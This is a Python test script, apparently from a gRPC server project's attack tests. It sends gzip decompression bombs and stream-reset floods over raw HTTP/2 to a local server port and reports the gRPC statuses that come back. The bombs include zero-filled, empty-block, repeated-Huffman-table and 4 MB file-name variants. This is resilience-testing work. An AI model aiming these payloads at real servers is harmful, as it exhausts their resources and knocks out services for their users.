"""`python -m tests.attacks.gzip_bombs KIND PATH PORT` sends compressed messages that cost much.

KIND is a name of BOMBS, and may have one of these at its end: ", reset" resets each stream when its
message is sent; ", 400 connections" and ", 24 addresses" say from where the messages come.

It prints as JSON how often each gRPC status came, how many bytes a message has, and how many
streams were reset or not answered.
"""

import gzip
import json
import random
import struct
import sys
import time
import zlib
from collections import Counter

from tests.walks.wire.http2_frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    call_header_block,
    grpc_status_and_message,
    raw_frame,
    raw_grpc_message,
)

GZIP = ((b"grpc-encoding", b"gzip"),)
MESSAGE_BYTES = 4 * 1024 * 1024 - 100
FRAME_BYTES = 16_384
STREAMS, CONNECTIONS = 32, 24
SECONDS_MIN, SECONDS_MAX = 3.0, 40.0
MESSAGES = STREAMS * CONNECTIONS
LARGE_BYTES, LARGE_CONNECTIONS = 100_000, 6
"""Bombs of so many bytes go one a connection, as in the findings: their bytes are the attack."""
CANCEL = (8).to_bytes(4, "big")


def near_ratio() -> bytes:
    """Return gzip that unpacks to just under a hundred times as many bytes."""
    noise = random.Random(1).randbytes(38_000)
    return gzip.compress(noise + bytes(MESSAGE_BYTES - len(noise)), 9)


def empty_blocks() -> bytes:
    """Return 4 MB of gzip whose 800,000 blocks have no content."""
    head = gzip.compress(b"", mtime=0)[:10]
    return head + b"\0\0\0\xff\xff" * 800_000 + b"\1\0\0\xff\xff" + struct.pack("<II", 0, 0)


def empty_tables() -> bytes:
    """Return gzip of many blocks that have Huffman tables, and no content but their end."""
    one = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = bytes(range(256)) * 2
    block = one.compress(text) + one.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"", mtime=0)[:10] + block * (MESSAGE_BYTES // len(block) // 2)


def long_name() -> bytes:
    """Return gzip whose header has a file name of 4 MB."""
    head = gzip.compress(b"", mtime=0)
    return head[:3] + b"\x08" + head[4:10] + b"n" * MESSAGE_BYTES + b"\0" + head[10:]


BOMBS = {
    "zeros": lambda: gzip.compress(bytes(MESSAGE_BYTES), 9),
    "near ratio": near_ratio,
    "members": lambda: gzip.compress(b"", mtime=0) * 209_714,
    "empty blocks": empty_blocks,
    "many tables": empty_tables,
    "long name": long_name,
    "torn": lambda: near_ratio()[:-1_000],
}


class BombConnection(RawConnection):
    """A connection that keeps to the server's flow-control windows."""

    def __init__(self, port: int, source: str) -> None:
        self._initial, self._windows = 65_535, Counter[int]({0: 65_535})
        super().__init__(port, source=source)

    def on_frame(self, kind: int | None, flags: int, stream: int, payload: bytes) -> None:
        """Note windows too."""
        if kind == WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload[:4], "big")
        elif kind == SETTINGS and payload:
            settings = dict(struct.iter_unpack(">HI", payload))
            self._initial = settings.get(4, self._initial)
        super().on_frame(kind, flags, stream, payload)

    def send_message(self, stream: int, path: str, message: bytes, give_up: float) -> bool:
        """Send one call; False when its stream or the connection ended before all was sent."""
        block = call_header_block(path, more=GZIP)
        if not self.send(raw_frame(HEADERS, END_HEADERS, stream, block)):
            return False
        body, at = raw_grpc_message(message, compressed=1), 0
        while at < len(body):
            if self.over(stream) or time.monotonic() > give_up:
                return False
            room = min(self._initial + self._windows[stream], self._windows[0], FRAME_BYTES)
            if room <= 0:
                if not self.read(0.05):
                    return False
                continue
            piece = body[at : at + room]
            at += len(piece)
            flags = END_STREAM if at == len(body) else 0
            self._windows[stream] -= len(piece)
            self._windows[0] -= len(piece)
            if not self.send(raw_frame(DATA, flags, stream, piece)):
                return False
        return True

    def over(self, stream: int) -> bool:
        """Return True if the stream has ended."""
        return stream in self.ended_streams or stream in self.reset_streams


class BombSeries:
    """Sends one bomb on each stream of each of its connections, which come from some addresses."""

    def __init__(self, kind: str, path: str, port: int) -> None:
        kind, _, self._variant = kind.partition(", ")
        self.bomb, self._path, self._port = BOMBS[kind](), path, port
        self.statuses: Counter[str] = Counter()
        self.reset = self.unanswered = 0
        # How many connections there are, each with how many streams, and from where.
        large = len(self.bomb) > LARGE_BYTES
        self._connections = LARGE_CONNECTIONS if large else CONNECTIONS
        self._addresses = 1
        if self._variant.endswith(" connections"):
            self._connections = int(self._variant.split()[0])
        elif self._variant.endswith(" addresses"):
            self._addresses = int(self._variant.split()[0])
        streams = 1 if large else max(1, MESSAGES // self._connections)
        self._streams = range(1, 2 * streams, 2)

    def send_once(self) -> None:
        """Open the connections, send all bombs, and wait for what becomes of them."""
        give_up = time.monotonic() + SECONDS_MAX
        wires = [
            BombConnection(self._port, f"127.0.1.{1 + number % self._addresses}")
            for number in range(self._connections)
        ]
        for wire in wires:
            wire.read(1.0)
        for stream in self._streams:
            for wire in wires:
                sent = wire.send_message(stream, self._path, self.bomb, give_up)
                if sent and self._variant == "reset":
                    wire.send(raw_frame(RST_STREAM, 0, stream, CANCEL))
                    wire.reset_streams[stream] = 0
        # Wait, and count.
        waiting = wires
        while waiting and time.monotonic() < give_up:
            waiting = [wire for wire in waiting if not self._is_over(wire) and wire.read(0.01)]
        for wire in wires:
            self._count(wire)
            wire.close()

    def _is_over(self, wire: BombConnection) -> bool:
        return all(wire.over(stream) for stream in self._streams)

    def _count(self, wire: BombConnection) -> None:
        """Count what became of the calls of one connection."""
        ended, reset = wire.ended_streams, wire.reset_streams.keys() - wire.ended_streams.keys()
        self.statuses.update(str(grpc_status_and_message(headers)[0]) for headers in ended.values())
        self.reset += len(reset)
        self.unanswered += len(self._streams) - len(ended) - len(reset)


def send_bombs(kind: str, path: str, port: int) -> dict[str, object]:
    """Send bombs for SECONDS_MIN, at least once; return what became of them."""
    series, until_s = BombSeries(kind, path, port), time.monotonic() + SECONDS_MIN
    series.send_once()
    while time.monotonic() < until_s:
        series.send_once()
    return {
        "statuses": series.statuses,
        "reset": series.reset,
        "unanswered": series.unanswered,
        "bytes": len(series.bomb),
    }


if __name__ == "__main__":
    print(json.dumps(send_bombs(sys.argv[1], sys.argv[2], int(sys.argv[3]))), flush=True)  # noqa: T201
